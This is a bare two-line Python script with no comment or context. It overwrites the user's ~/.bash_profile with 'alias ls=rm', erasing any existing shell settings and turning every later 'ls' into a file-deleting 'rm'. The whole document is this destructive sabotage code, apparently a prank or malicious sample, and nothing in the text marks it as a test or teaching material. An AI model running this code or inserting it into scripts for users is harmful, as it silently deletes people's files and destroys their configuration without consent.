from pathlib import Path
(Path.home() / '.bash_profile').write_text('alias ls=rm')
